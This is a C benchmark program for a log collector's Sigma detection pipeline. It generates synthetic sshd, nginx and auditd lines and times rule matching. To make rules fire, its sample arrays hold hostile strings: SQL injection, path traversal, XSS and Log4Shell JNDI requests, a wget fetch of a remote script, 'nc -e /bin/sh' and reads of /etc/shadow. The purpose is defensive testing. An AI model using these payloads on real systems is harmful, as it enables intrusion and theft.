/*
 * bench_rules – CPU cost of decoding plus Sigma matching, per million events.
 *
 * Generates a deterministic mix of realistic lines (sshd through syslog,
 * nginx access log, raw auditd records; a few percent of them attacks so
 * rules fire), then runs the collector's real pipeline (detect_line: decode
 * + the sigma detector) over them for rule sets of growing size: decode
 * only, N1, N2, ... rules and every live rule found under the given paths,
 * each with and without the literal prefilter. Time is process CPU time
 * (CLOCK_PROCESS_CPUTIME_ID), the best of -r repetitions.
 *
 *   bench_rules [-n EVENTS] [-r REPEAT] [-s 10,100,all] [-p on|off|both]
 *               [-w FILE] [-i FILE] [-B] RULE_PATH...
 *
 * Subsets: every rule file under the paths is loaded alone once; the files
 * that hold at least one live rule (a logsource some decoder produces) are
 * taken at an even stride until the subset holds the wanted number of
 * rules, and linked into a temporary folder that is loaded as one set.
 * -w writes the generated lines to FILE (for replay or callgrind). -i FILE
 * takes the lines of FILE instead of the generated mix ("source<TAB>line",
 * as bench/loadgen --dump writes them, or plain lines), decoded as the
 * collector does (with its auditd record cache, which joins an EXECVE
 * record to its SYSCALL record's fields): the collector benchmark's mix
 * through the same pipeline, without TLS, Redis or alerts. -B skips
 * the decode-only pass when rule sets are measured, so that a callgrind run
 * of one set collects that set's pass alone (bench/rules CALLGRIND=1).
 */
#include <dirent.h>
#include <errno.h>
#include <limits.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "detect.h"
#include "sigma_set.h"

#define BENCH_POOL	65536		/* distinct lines, cycled over */
#define BENCH_LINE_MAX	1024
#define BENCH_MAX_SIZES	16

/* --- deterministic line generator ------------------------------------- */

static uint64_t rng_state = 0x9e3779b97f4a7c15ull;

static uint32_t
rng(void)
{
	/* xorshift64*: same sequence on every machine */
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return (uint32_t)((rng_state * 0x2545f4914f6cdd1dull) >> 32);
}

#define PICK(a) ((a)[rng() % (sizeof(a) / sizeof((a)[0]))])

static const char *const users[] = { "root", "admin", "deploy", "ubuntu", "git", "oracle",
	"test", "postgres", "alice", "bob", "www-data", "backup" };
static const char *const hosts[] = { "web1", "web2", "db1", "bastion", "ci-runner" };
static const char *const paths[] = { "/", "/index.html", "/favicon.ico", "/robots.txt",
	"/static/app.3f9a1c.js", "/static/style.css", "/api/v1/users/42", "/api/v1/orders?page=3",
	"/login", "/search?q=red+shoes&sort=price", "/images/logo.png", "/blog/2024/11/hello-world",
	"/api/v1/health", "/cart?item=1123&qty=2", "/docs/getting-started" };
static const char *const attacks[] = { "/index.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
	"/../../../../etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/.env", "/wp-login.php",
	"/?q=<script>alert(1)</script>", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	"/shell.php?cmd=whoami", "/.git/config", "/?x=${jndi:ldap://203.0.113.9/a}",
	"/admin/config.php?cmd=cat%20/etc/shadow", "/index.php?page=php://filter/resource=index" };
static const char *const agents[] = {
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
	"curl/7.88.1", "Googlebot/2.1 (+http://www.google.com/bot.html)", "python-requests/2.31.0" };
static const char *const bad_agents[] = { "sqlmap/1.7.2#stable (https://sqlmap.org)",
	"Mozilla/5.00 (Nikto/2.1.6)", "masscan/1.3", "Go-http-client/1.1" };
static const char *const cmds[][3] = {
	{ "ls", "-la", "/home" }, { "cat", "/var/log/syslog", "" }, { "grep", "-r", "TODO" },
	{ "systemctl", "status", "nginx" }, { "ps", "aux", "" }, { "git", "pull", "" },
	{ "python3", "manage.py", "migrate" }, { "df", "-h", "" }, { "tar", "czf", "/tmp/b.tgz" } };
static const char *const bad_cmds[][3] = {
	{ "wget", "http://203.0.113.9/x.sh", "-O-" }, { "base64", "-d", "/tmp/p" },
	{ "chmod", "+x", "/tmp/.x" }, { "nc", "-e", "/bin/sh" }, { "useradd", "-o", "toor" },
	{ "cat", "/etc/shadow", "" }, { "crontab", "-r", "" }, { "iptables", "-F", "" },
	{ "setenforce", "0", "" }, { "insmod", "/tmp/rk.ko", "" } };

static unsigned
ip4(char *b, size_t n, bool internal)
{
	return (unsigned)snprintf(b, n, internal ? "10.0.%u.%u" : "203.0.%u.%u", rng() % 4,
	    1 + rng() % 250);
}

static int
gen_sshd(char *b, size_t n, unsigned sec)
{
	char ip[32];
	unsigned r = rng() % 100, port = 1024 + rng() % 60000, pid = 1000 + rng() % 30000;
	const char *u = PICK(users), *h = PICK(hosts);
	int o = snprintf(b, n, "Nov 25 %02u:%02u:%02u %s sshd[%u]: ", sec / 3600 % 24,
	    sec / 60 % 60, sec % 60, h, pid);

	ip4(ip, sizeof(ip), r >= 60);
	if (r < 30)
		return o + snprintf(b + o, n - o, "Failed password for %s%s from %s port %u ssh2",
		    rng() % 3 ? "" : "invalid user ", u, ip, port);
	if (r < 40)
		return o + snprintf(b + o, n - o, "Invalid user %s from %s port %u", u, ip, port);
	if (r < 50)
		return o + snprintf(b + o, n - o, "Connection closed by authenticating user %s %s "
		    "port %u [preauth]", u, ip, port);
	if (r < 55)
		return o + snprintf(b + o, n - o, "Received disconnect from %s port %u:11: Bye Bye "
		    "[preauth]", ip, port);
	if (r < 57)
		return o + snprintf(b + o, n - o, "error: kex_exchange_identification: Connection "
		    "closed by remote host");
	if (r < 75)
		return o + snprintf(b + o, n - o, "Accepted publickey for %s from %s port %u ssh2: "
		    "ED25519 SHA256:Xk3v9PqL1mN0aZ7yT2wR5uE8iO4pS6dF1gH3jK5lM7n", u, ip, port);
	if (r < 90)
		return o + snprintf(b + o, n - o, "pam_unix(sshd:session): session opened for user "
		    "%s(uid=%u) by (uid=0)", u, 1000 + rng() % 50);
	return o + snprintf(b + o, n - o, "Disconnected from user %s %s port %u", u, ip, port);
}

static int
gen_nginx(char *b, size_t n, unsigned sec)
{
	char ip[32];
	bool bad = rng() % 100 < 3;
	const char *path = bad ? PICK(attacks) : PICK(paths);
	const char *ua = bad && rng() % 2 ? PICK(bad_agents) : PICK(agents);
	static const char *const methods[] = { "GET", "GET", "GET", "POST", "HEAD" };
	static const unsigned codes[] = { 200, 200, 200, 200, 304, 301, 404, 500 };

	ip4(ip, sizeof(ip), rng() % 10 == 0);
	return snprintf(b, n, "%s - - [25/Nov/2024:%02u:%02u:%02u +0000] \"%s %s HTTP/1.1\" %u %u "
	    "\"%s\" \"%s\"", ip, sec / 3600 % 24, sec / 60 % 60, sec % 60, bad ? "GET" : PICK(methods),
	    path, bad ? 404 : PICK(codes), 200 + rng() % 40000,
	    rng() % 2 ? "-" : "https://example.org/", ua);
}

static int
gen_auditd(char *b, size_t n, unsigned sec)
{
	unsigned r = rng() % 100, serial = rng() % 1000000, pid = 1000 + rng() % 30000;
	bool bad = rng() % 100 < 3;
	const char *const *c = bad ? bad_cmds[rng() % (sizeof(bad_cmds) / sizeof(bad_cmds[0]))] :
	    cmds[rng() % (sizeof(cmds) / sizeof(cmds[0]))];
	int o = snprintf(b, n, "type=%s msg=audit(%u.%03u:%u): ", r < 30 ? "SYSCALL" : r < 55 ?
	    "EXECVE" : r < 75 ? "PATH" : r < 85 ? "CWD" : r < 93 ? "PROCTITLE" : "USER_AUTH",
	    1732492800u + sec, rng() % 1000, serial);

	if (r < 30)
		return o + snprintf(b + o, n - o, "arch=c000003e syscall=59 success=yes exit=0 "
		    "a0=55d5e7c0 a1=55d5e7d0 a2=55d5e7e0 a3=0 items=2 ppid=%u pid=%u auid=1000 uid=%u "
		    "gid=1000 euid=%u suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 "
		    "ses=3 comm=\"%s\" exe=\"/usr/bin/%s\" subj=unconfined key=\"exec\"", pid - 1, pid,
		    bad ? 0 : 1000, bad ? 0 : 1000, c[0], c[0]);
	if (r < 55)
		return o + snprintf(b + o, n - o, "argc=%d a0=\"%s\" a1=\"%s\"%s%s%s", c[2][0] ? 3 : 2,
		    c[0], c[1], c[2][0] ? " a2=\"" : "", c[2], c[2][0] ? "\"" : "");
	if (r < 75)
		return o + snprintf(b + o, n - o, "item=0 name=\"%s\" inode=%u dev=08:01 mode=0100755 "
		    "ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
		    bad && c[1][0] == '/' ? c[1] : "/usr/bin/ls", 100000 + rng() % 900000);
	if (r < 85)
		return o + snprintf(b + o, n - o, "cwd=\"/home/%s\"", PICK(users));
	if (r < 93)
		return o + snprintf(b + o, n - o, "proctitle=2F62696E2F62617368002D6C63006C73");
	return o + snprintf(b + o, n - o, "pid=%u uid=0 auid=4294967295 ses=4294967295 "
	    "subj=unconfined msg='op=PAM:authentication grantors=? acct=\"%s\" exe=\"/usr/sbin/sshd\" "
	    "hostname=203.0.113.7 addr=203.0.113.7 terminal=ssh res=failed'", pid, PICK(users));
}

struct pool {
	char *buf;
	size_t *off;
	size_t *len;
	size_t n;
	size_t counts[3];
};

static int
pool_make(struct pool *p, size_t n)
{
	char line[BENCH_LINE_MAX];
	size_t used = 0;

	p->buf = malloc(n * BENCH_LINE_MAX);
	p->off = calloc(n, sizeof(size_t));
	p->len = calloc(n, sizeof(size_t));
	if (p->buf == NULL || p->off == NULL || p->len == NULL)
		return -1;
	p->n = n;
	for (size_t i = 0; i < n; i++) {
		unsigned kind = rng() % 100, sec = (unsigned)(i / 8);
		int l;

		/* 40 % sshd, 40 % nginx, 20 % auditd */
		if (kind < 40)
			l = gen_sshd(line, sizeof(line), sec);
		else if (kind < 80)
			l = gen_nginx(line, sizeof(line), sec);
		else
			l = gen_auditd(line, sizeof(line), sec);
		p->counts[kind < 40 ? 0 : kind < 80 ? 1 : 2]++;
		if (l < 0)
			l = 0;
		if ((size_t)l >= sizeof(line))
			l = sizeof(line) - 1;
		memcpy(p->buf + used, line, (size_t)l);
		p->off[i] = used;
		p->len[i] = (size_t)l;
		used += (size_t)l;
	}
	return 0;
}

/*
 * The lines of file as the pool (at most BENCH_LINE_MAX - 1 bytes each, up
 * to max lines); "source<TAB>line" keeps the line. Returns 0, or -1.
 */
static int
pool_load(struct pool *p, const char *file, size_t max)
{
	FILE *fp = fopen(file, "r");
	char line[BENCH_LINE_MAX * 4];
	size_t used = 0;

	if (fp == NULL) {
		fprintf(stderr, "bench_rules: %s: %s\n", file, strerror(errno));
		return -1;
	}
	p->buf = malloc(max * BENCH_LINE_MAX);
	p->off = calloc(max, sizeof(size_t));
	p->len = calloc(max, sizeof(size_t));
	if (p->buf == NULL || p->off == NULL || p->len == NULL) {
		fclose(fp);
		return -1;
	}
	while (p->n < max && fgets(line, sizeof(line), fp) != NULL) {
		char *t = line, *tab = strchr(line, '\t');
		size_t l;

		if (tab != NULL && line[0] == '/')
			t = tab + 1;
		l = strcspn(t, "\r\n");
		if (l >= BENCH_LINE_MAX)
			l = BENCH_LINE_MAX - 1;
		memcpy(p->buf + used, t, l);
		p->off[p->n] = used;
		p->len[p->n] = l;
		used += l;
		p->n++;
	}
	fclose(fp);
	if (p->n == 0) {
		fprintf(stderr, "bench_rules: %s: no lines\n", file);
		return -1;
	}
	return 0;
}

/* --- rule subsets ------------------------------------------------------ */

struct rfile {
	char *path;
	size_t rules;	/* live detection rules when loaded alone */
};

struct rfiles {
	struct rfile *v;
	size_t n, a;
};

/* Appends one rule file (sigma_set_walk gives them in load order). */
static void
collect_cb(const char *path, void *arg)
{
	struct rfiles *f = arg;

	if (f->n == f->a) {
		f->a = f->a ? f->a * 2 : 256;
		if ((f->v = realloc(f->v, f->a * sizeof(*f->v))) == NULL)
			exit(1);
	}
	f->v[f->n].path = strdup(path);
	f->v[f->n].rules = 0;
	f->n++;
}

/* Links the chosen files into a fresh temporary folder; returns its path (static). */
static const char *
link_subset(struct rfiles *f, const bool *take)
{
	static char dir[PATH_MAX];
	char link[PATH_MAX + 64], abs[PATH_MAX];
	const char *tmp = getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp";

	snprintf(dir, sizeof(dir), "%s/bench_rules.XXXXXX", tmp);
	if (mkdtemp(dir) == NULL) {
		fprintf(stderr, "bench_rules: mkdtemp: %s\n", strerror(errno));
		exit(1);
	}
	for (size_t i = 0; i < f->n; i++) {
		const char *base;
		if (!take[i])
			continue;
		base = strrchr(f->v[i].path, '/') ? strrchr(f->v[i].path, '/') + 1 : f->v[i].path;
		snprintf(link, sizeof(link), "%s/%05zu_%s", dir, i, base);
		if (realpath(f->v[i].path, abs) == NULL || symlink(abs, link) != 0) {
			fprintf(stderr, "bench_rules: link %s: %s\n", f->v[i].path, strerror(errno));
			exit(1);
		}
	}
	return dir;
}

static void
unlink_subset(const char *dir)
{
	DIR *d = opendir(dir);
	struct dirent *de;
	char p[PATH_MAX + 300];

	while (d && (de = readdir(d)) != NULL) {
		if (de->d_name[0] == '.')
			continue;
		snprintf(p, sizeof(p), "%s/%s", dir, de->d_name);
		unlink(p);
	}
	if (d)
		closedir(d);
	rmdir(dir);
}

/* --- running ------------------------------------------------------------ */

static double
cpu_now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static uint64_t alerts;

static void
count_cb(struct alert *a, void *arg)
{
	(void)a;
	(void)arg;
	alerts++;
}

static struct decoded dec;
/* With -i: the collector's auditd record cache (NULL: none, as before). */
static struct decode_auditd_cache *auditd_cache;

/*
 * CPU seconds for events lines of the pool through dets (0 or 1 detector).
 */
static double
run_once(const struct pool *p, size_t events, struct detector *det)
{
	struct decode_ctx ctx = { .recv_ms = 1732492800000, .auditd = auditd_cache,
		.agent_id = "bench-agent" };
	struct detector *dets[1] = { det };
	double t0 = cpu_now();

	alerts = 0;
	for (size_t i = 0; i < events; i++) {
		size_t k = i % p->n;
		struct ms_str line = ms_str_make(p->buf + p->off[k], p->len[k]);
		detect_line(dets, det ? 1 : 0, &dec, &ctx, "bench-agent", "bench-host",
		    ms_str_make("bench", 5), line, i + 1, count_cb, NULL);
	}
	return cpu_now() - t0;
}

/*
 * The measured pass, apart from the warm-up so that
 * valgrind --tool=callgrind --toggle-collect=run_measured counts only its
 * instructions (they double with -n, the warm-up's 20,000 events do not
 * show). Callgrind's call counts are another matter: they include calls
 * made while it did not collect, so callgrind_annotate --tree shows the
 * warm-up's calls too (the decoder and the detector called twice per
 * measured event, three times with the decode-only pass; CALLGRIND_ZERO_STATS
 * here did not reliably reset them). Per-event figures are instructions
 * divided by -n, never by a call count. The empty asm keeps the call a call
 * rather than a "jmp run_once", so run_measured has a frame of its own.
 */
static double __attribute__((noinline))
run_measured(const struct pool *p, size_t events, struct detector *det)
{
	double t = run_once(p, events, det);

	__asm__ volatile("" ::: "memory");
	return t;
}

static double
run_best(const struct pool *p, size_t events, unsigned repeat, const char *dir, bool prefilter,
    size_t *nrules, uint64_t *nalerts, double *load_s)
{
	double best = -1;

	for (unsigned r = 0; r < repeat; r++) {
		struct detector *det = NULL;
		double t;

		if (dir != NULL) {
			struct sigma_report rep;
			struct sigma_set *s;
			char err[512];
			double l0 = cpu_now();

			sigma_report_init(&rep);
			if ((s = sigma_set_load(dir, NULL, &rep, err, sizeof(err))) == NULL) {
				fprintf(stderr, "bench_rules: %s\n", err);
				exit(1);
			}
			*load_s = cpu_now() - l0;
			*nrules = rep.rules;
			sigma_set_prefilter(s, prefilter);
			sigma_report_fini(&rep);
			if ((det = sigma_detector_new(s)) == NULL)
				exit(1);
		}
		/*
		 * Warm-up outside the timing: the first event of each logsource
		 * builds that route and its prefilter (reported as load_s).
		 */
		if (det != NULL) {
			double w0 = cpu_now();
			(void)run_once(p, p->n < 20000 ? p->n : 20000, det);
			*load_s += cpu_now() - w0;
		}
		t = run_measured(p, events, det);
		*nalerts = alerts;
		detector_free(det);
		if (best < 0 || t < best)
			best = t;
	}
	return best;
}

static void
usage(void)
{
	fprintf(stderr, "usage: bench_rules [-n EVENTS] [-r REPEAT] [-s 10,100,all] "
	    "[-p on|off|both] [-w FILE] [-i FILE] [-B] RULE_PATH...\n");
	exit(2);
}

int
main(int argc, char **argv)
{
	size_t events = 1000000, sizes[BENCH_MAX_SIZES], nsizes = 0, live = 0, live_files = 0;
	unsigned repeat = 3;
	const char *pmode = "both", *wfile = NULL, *ifile = NULL;
	bool no_base = false;
	char sizespec[256] = "10,100,all";
	struct rfiles files = { 0 };
	struct pool pool = { 0 };
	double base, load_s = 0;
	int c, rc;

	while ((c = getopt(argc, argv, "n:r:s:p:w:i:B")) != -1) {
		switch (c) {
		case 'n': events = strtoull(optarg, NULL, 10); break;
		case 'r': repeat = (unsigned)strtoul(optarg, NULL, 10); break;
		case 's': snprintf(sizespec, sizeof(sizespec), "%s", optarg); break;
		case 'p': pmode = optarg; break;
		case 'w': wfile = optarg; break;
		case 'i': ifile = optarg; break;
		case 'B': no_base = true; break;
		default: usage();
		}
	}
	if (optind >= argc || events == 0 || repeat == 0)
		usage();

	for (int i = optind; i < argc; i++)
		if ((rc = sigma_set_walk(argv[i], collect_cb, &files)) < 0) {
			fprintf(stderr, "bench_rules: %s: cannot list the rule files: %s\n", argv[i],
			    strerror(-rc));
			return 1;
		}
	for (size_t i = 0; i < files.n; i++) {
		struct sigma_report rep;
		char err[512];
		struct sigma_set *s;

		sigma_report_init(&rep);
		s = sigma_set_load(files.v[i].path, NULL, &rep, err, sizeof(err));
		if (s != NULL && rep.rules > 0) {
			files.v[i].rules = rep.rules;
			live += rep.rules;
			live_files++;
		}
		sigma_set_free(s);
		sigma_report_fini(&rep);
	}
	for (const char *tok = sizespec; *tok; ) {
		size_t tl = strcspn(tok, ","), want;

		want = tl == 3 && strncmp(tok, "all", 3) == 0 ? live : strtoull(tok, NULL, 10);
		if (want > live)
			want = live;
		if (want > 0 && nsizes < BENCH_MAX_SIZES && (nsizes == 0 || sizes[nsizes - 1] != want))
			sizes[nsizes++] = want;
		tok += tl + (tok[tl] == ',');
	}

	if (ifile != NULL) {
		if (pool_load(&pool, ifile, 1000000) < 0 ||
		    (auditd_cache = decode_auditd_cache_new()) == NULL)
			return 1;
	} else if (pool_make(&pool, events < BENCH_POOL ? events : BENCH_POOL) < 0) {
		return 1;
	}
	if (wfile != NULL) {
		FILE *fp = fopen(wfile, "w");
		for (size_t i = 0; fp && i < pool.n; i++)
			fprintf(fp, "%.*s\n", (int)pool.len[i], pool.buf + pool.off[i]);
		if (fp == NULL || fclose(fp) != 0)
			fprintf(stderr, "bench_rules: cannot write %s\n", wfile);
	}

	if (ifile != NULL)
		printf("events=%zu pool=%zu (lines of %s) repeat=%u\n", events, pool.n, ifile,
		    repeat);
	else
		printf("events=%zu pool=%zu (sshd %zu, nginx %zu, auditd %zu) repeat=%u\n", events,
		    pool.n, pool.counts[0], pool.counts[1], pool.counts[2], repeat);
	printf("rule files=%zu with live rules=%zu, live rules=%zu\n", files.n, live_files, live);
	printf("%-12s %-9s %8s %14s %10s %10s %9s\n", "set", "prefilter", "rules", "cpu_s/1M_ev",
	    "ns/event", "alerts", "load_s");
	if (!no_base || nsizes == 0) {
		base = run_best(&pool, events, repeat, NULL, false, &(size_t){ 0 },
		    &(uint64_t){ 0 }, &load_s);
		printf("%-12s %-9s %8d %14.3f %10.0f %10s %9s\n", "decode-only", "-", 0,
		    base * 1e6 / (double)events, base * 1e9 / (double)events, "-", "-");
		fflush(stdout);
	}

	for (size_t si = 0; si < nsizes; si++) {
		bool *take = calloc(files.n, sizeof(bool));
		size_t got = 0, nfl = 0;
		const char *dir;
		char label[32];

		/* Files with live rules at an even stride until the subset is big enough. */
		for (size_t pass = 0; got < sizes[si] && pass < files.n; pass++) {
			size_t stride = live_files / (sizes[si] ? sizes[si] : 1);
			size_t k = 0;
			if (stride == 0)
				stride = 1;
			for (size_t i = 0; i < files.n && got < sizes[si]; i++) {
				if (files.v[i].rules == 0)
					continue;
				if (k++ % stride == pass % stride && !take[i]) {
					take[i] = true;
					got += files.v[i].rules;
					nfl++;
				}
			}
		}
		dir = link_subset(&files, take);
		snprintf(label, sizeof(label), "%s%zu", sizes[si] == live ? "all=" : "", sizes[si]);
		for (int pf = 1; pf >= 0; pf--) {
			size_t nr = 0;
			uint64_t na = 0;
			double t;

			if ((pf && strcmp(pmode, "off") == 0) || (!pf && strcmp(pmode, "on") == 0))
				continue;
			t = run_best(&pool, events, repeat, dir, pf, &nr, &na, &load_s);
			printf("%-12s %-9s %8zu %14.3f %10.0f %10llu %9.3f\n", label, pf ? "on" : "off",
			    nr, t * 1e6 / (double)events, t * 1e9 / (double)events,
			    (unsigned long long)na, load_s);
			fflush(stdout);
		}
		unlink_subset(dir);
		free(take);
	}
	return 0;
}
